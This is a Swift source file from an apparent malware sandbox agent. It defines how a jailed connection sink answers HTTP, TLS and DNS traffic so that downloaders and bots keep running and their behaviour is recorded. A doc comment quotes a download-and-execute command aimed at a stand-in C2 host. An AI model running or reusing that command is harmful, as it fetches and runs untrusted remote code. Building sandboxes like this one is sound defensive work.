// shmwarden — Linux host agent for executables dropped on tmpfs.
// SPDX-License-Identifier: Apache-2.0

/// What the jail's sink answers a connection once it has heard a whole first message of a
/// protocol it knows, before it hangs up (`SandboxConnectionSink`).
///
/// A sink that answered nothing and hung up after a quiet half second ended a downloader's run
/// at its download: `curl -s http://c2/x -o /tmp/x && chmod +x /tmp/x && /tmp/x` failed with
/// "empty reply", and the chmod and exec that show what it meant to do never came. An HTTP
/// request gets a 200 with an empty body, so the chain goes on (the empty program then fails to
/// run, on record), and a bot that polls its C2 polls again, each poll on record. A TLS
/// ClientHello gets the alert a server that shares no cipher sends, at once, rather than after
/// the quiet time. Anything else gets nothing, as before.
///
/// Pure.
enum SandboxSinkAnswer: String, Equatable {
    case http
    case tlsAlert
    /// DNS over TCP, to port 53: each query answered from the name service's book
    /// (`SandboxConnectionSink`), the connection left open for the next.
    case dns

    /// The answer to a connection whose first bytes (up to the sink's keep limit) are `kept`,
    /// of `total` sent so far: nil while it is no whole request yet, or of no protocol known.
    static func answer(toFirst kept: [UInt8], total: Int) -> SandboxSinkAnswer? {
        if let length = httpRequestLength(kept), total >= length { return .http }
        // A TLS handshake record (22, version 3.x), whole: the ClientHello.
        if kept.count >= 5, kept[0] == 22, kept[1] == 3,
            total >= 5 + (Int(kept[3]) << 8 | Int(kept[4]))
        {
            return .tlsAlert
        }
        return nil
    }

    /// What is written back.
    var bytes: [UInt8] {
        switch self {
        case .http:
            Array(
                "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    .utf8)
        // An alert record (21, TLS 1.2's version, 2 bytes): fatal (2), handshake_failure (40).
        case .tlsAlert: [21, 3, 3, 0, 2, 2, 40]
        case .dns: []  // each query's own
        }
    }

    /// What the report says was answered.
    var summary: String {
        switch self {
        case .http: "HTTP 200 with an empty body"
        case .tlsAlert: "a TLS handshake_failure alert"
        case .dns: "each DNS query over TCP from the jail's name service"
        }
    }

    /// The length of the HTTP/1.x request `bytes` start with, once its head is all there
    /// (request line, headers, the empty line): the head's length and its body's
    /// (Content-Length; a chunked body once its last chunk is in). Nil: no such request
    /// (yet).
    static func httpRequestLength(_ bytes: [UInt8]) -> Int? {
        // Request line: a method of capitals, a target, HTTP/1.0 or HTTP/1.1.
        guard let lineEnd = bytes.firstIndex(of: 10), lineEnd < 8192 else { return nil }
        let words = bytes[..<lineEnd].split(separator: 32, omittingEmptySubsequences: false)
        guard words.count == 3, (3...10).contains(words[0].count), words[0].allSatisfy({ $0 >= 65 && $0 <= 90 }),
            !words[1].isEmpty
        else { return nil }
        var version = Array(words[2])
        if version.last == 13 { version.removeLast() }
        guard version == Array("HTTP/1.1".utf8) || version == Array("HTTP/1.0".utf8) else { return nil }
        // Headers, to the empty line (CRLF or a bare LF, as lenient servers take it).
        var contentLength = 0
        var chunked = false
        var start = lineEnd + 1
        while true {
            guard let end = bytes[start...].firstIndex(of: 10) else { return nil }
            var line = bytes[start..<end]
            if line.last == 13 { line = line.dropLast() }
            start = end + 1
            if line.isEmpty { break }
            guard let colon = line.firstIndex(of: 58) else { continue }
            let name = String(decoding: line[..<colon], as: UTF8.self).lowercased()
            let value = String(decoding: line[(colon + 1)...], as: UTF8.self).trimmingSpaces.lowercased()
            if name == "content-length", let length = Int(value), length >= 0 { contentLength = length }
            if name == "transfer-encoding", value.hasSuffix("chunked") { chunked = true }
        }
        guard chunked else { return start + contentLength }
        // The last chunk (size 0) and the empty line after it: once in, what was sent is whole.
        return bytes[start...].elementsEqual(Array("0\r\n\r\n".utf8))
            || bytes.suffix(7).elementsEqual(Array("\r\n0\r\n\r\n".utf8))
            ? bytes.count : nil
    }
}

extension String {
    /// Without leading and trailing spaces and tabs.
    fileprivate var trimmingSpaces: String {
        var text = Substring(self)
        while text.first == " " || text.first == "\t" { text.removeFirst() }
        while text.last == " " || text.last == "\t" { text.removeLast() }
        return String(text)
    }
}
